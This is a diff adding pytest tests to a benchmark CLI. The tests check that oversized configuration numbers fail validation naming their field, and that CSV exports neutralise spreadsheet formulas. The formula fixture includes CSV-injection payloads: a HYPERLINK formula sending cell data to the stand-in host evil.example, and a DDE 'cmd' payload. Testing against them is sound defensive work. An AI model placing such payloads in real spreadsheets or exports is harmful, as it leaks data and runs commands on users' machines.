@@ -431,3 +431,100 @@ def test_io_errors_are_one_line_naming_the_path(tmp_path, capsys):
                  "--set", "data.num_classes=4", "--set", "train.epochs=1"])
     err = capsys.readouterr().err.strip().splitlines()
     assert code == 2 and err[-1].startswith("error: cannot access ") and str(blocker) in err[-1], err
+
+
+# --- numbers too large for any run fail validation, naming the field ---------------------------------------------
+
+HUGE = "99999999999999999999"  # 10^20: above every C integer a count or a seed becomes
+
+
+@pytest.mark.parametrize("scenario, assignment", [
+    ("ext-class", f"train.epochs={HUGE}"), ("ext-class", f"train.batch_size={HUGE}"),
+    ("ext-class", f"train.eval_batch_size={HUGE}"), ("ext-class", f"train.min_steps={HUGE}"),
+    ("ext-class", f"train.warmup_epochs={HUGE}"), ("ext-class", f"train.milestones=[{HUGE}]"),
+    ("ext-class", "train.weight_decay=1e300"), ("ext-class", f"data.num_classes={HUGE}"),
+    ("ext-class", f"data.image_size={HUGE}"), ("ext-class", f"data.seed={HUGE}"), ("ext-class", "data.seed=-1"),
+    ("ext-class", f"model.embedding_dim={HUGE}"), ("ext-class", f"model.input_size={{convnet-s = {HUGE}}}"),
+    ("ext-class", f"verification_pairs={HUGE}"), ("multi-step", f"num_models={HUGE}"),
+    ("cl2r", f"memory_per_class={HUGE}"), ("iam-cl2r", f"pretrain_classes=[3, {HUGE}]"),
+])
+def test_a_huge_number_fails_before_training_in_one_line_naming_its_field(scenario, assignment, tmp_path, capsys):
+    argv = ["run", "--preset", "quick", "--scenario", scenario, "--methods", "independent", "--set", assignment,
+            "--dry-run", "--out", str(tmp_path / "run")]
+    assert main(argv) == 2
+    message = capsys.readouterr().err
+    field = assignment.split("=")[0].replace("input_size", "input_size.convnet-s")
+    assert message.count("\n") == 1 and f"{field}" in message and "than or equal to" in message, message
+
+
+def test_a_huge_seed_fails_before_training_naming_the_seeds(tmp_path, capsys):
+    argv = ["run", "--scenario", "ext-class", "--methods", "independent", "--seeds", f"0,{HUGE}", "--dry-run", "--out",
+            str(tmp_path / "run")]
+    assert main(argv) == 2
+    assert "seeds.1: Input should be less than or equal to 4294967295" in capsys.readouterr().err
+
+
+def test_every_numeric_configuration_field_has_an_upper_bound():
+    """Every int and float of the configuration models is bounded above (the learning rate alone may be inf: a run
+    that diverges on purpose)."""
+    import typing
+
+    import annotated_types
+    from pydantic.fields import FieldInfo
+
+    from benchbackcompat import config
+
+    def bounded(annotation, metadata) -> bool:
+        constraints = [c for m in metadata for c in (m.metadata if isinstance(m, FieldInfo) else [m])]
+        if any(isinstance(c, (annotated_types.Le, annotated_types.Lt)) for c in constraints):
+            return True
+        args = [a for a in typing.get_args(annotation) if a is not type(None)]
+        if typing.get_origin(annotation) is typing.Annotated:
+            return bounded(args[0], annotation.__metadata__)
+        if args:  # a list, dict or optional: every number inside it is bounded
+            return all(bounded(a, []) for a in args if numeric(a))
+        return not numeric(annotation)
+
+    def numeric(annotation) -> bool:
+        if typing.get_origin(annotation) is typing.Annotated:
+            return numeric(typing.get_args(annotation)[0])
+        return annotation in (int, float) or any(numeric(a) for a in typing.get_args(annotation))
+
+    models = [m for m in vars(config).values() if isinstance(m, type) and issubclass(m, config.StrictModel)]
+    unbounded = {f"{m.__name__}.{name}" for m in models for name, field in m.model_fields.items()
+                 if numeric(field.annotation) and not bounded(field.annotation, field.metadata)}
+    assert unbounded == {"TrainConfig.lr"}
+
+
+# --- CSV exports do not carry formulas into spreadsheets ------------------------------------------------------------
+
+FORMULAS = {"independent": '=HYPERLINK("http://evil.example/?"&A1,"results")', "l2": "-2+3+cmd|' /C calc'!A0",
+            "hoc": "@SUM(1+1)", "flat": "+A1*2", "unstable": "\t=1"}
+
+
+def test_csv_exports_neutralise_formula_cells_and_keep_negative_numbers(tmp_path, capsys):
+    import csv
+    import json
+    import math
+
+    from benchbackcompat.store import ResultStore
+
+    store = ResultStore(tmp_path / "results")
+    for record in json.loads(FIXTURE_RECORDS.read_text()):
+        store.write_record(record["key"], {**record, "method": FORMULAS.get(record["method"], record["method"])})
+    assert main(["leaderboard", "--results", str(tmp_path / "results"), "--out", str(tmp_path / "board")]) == 0
+    assert main(["export", str(tmp_path / "export.csv"), "--results", str(tmp_path / "results")]) == 0
+    board = list(csv.DictReader((tmp_path / "board" / "leaderboard.csv").open(newline="")))
+    export = list(csv.DictReader((tmp_path / "export.csv").open(newline="")))
+    for rows in (board, export):
+        methods = {row["method"] for row in rows}
+        assert {"'" + name for name in FORMULAS.values()} <= methods  # shown as text, never run
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
+    # independent's P_com over seeds 0 and 1: ((10 - 30) / (40 - 30) + (12 - 30) / (42 - 30)) / 2 = -1.75, a number
+    (p_com,) = [row for row in board if row["method"] == "'" + FORMULAS["independent"] and row["statistic"] == "p_com"]
+    assert p_com["mean"] == "-1.75"
+    (p_com,) = [row for row in export if row["method"] == "'" + FORMULAS["independent"] and row["statistic"] == "p_com"
+                and row["seed"] == "0"]
+    assert p_com["value"] == "-2.0"
+    negative = [cell for row in board + export for cell in row.values() if cell.startswith("-")]
+    assert negative and all(math.isfinite(float(cell)) for cell in negative)  # what still starts with "-" is a number
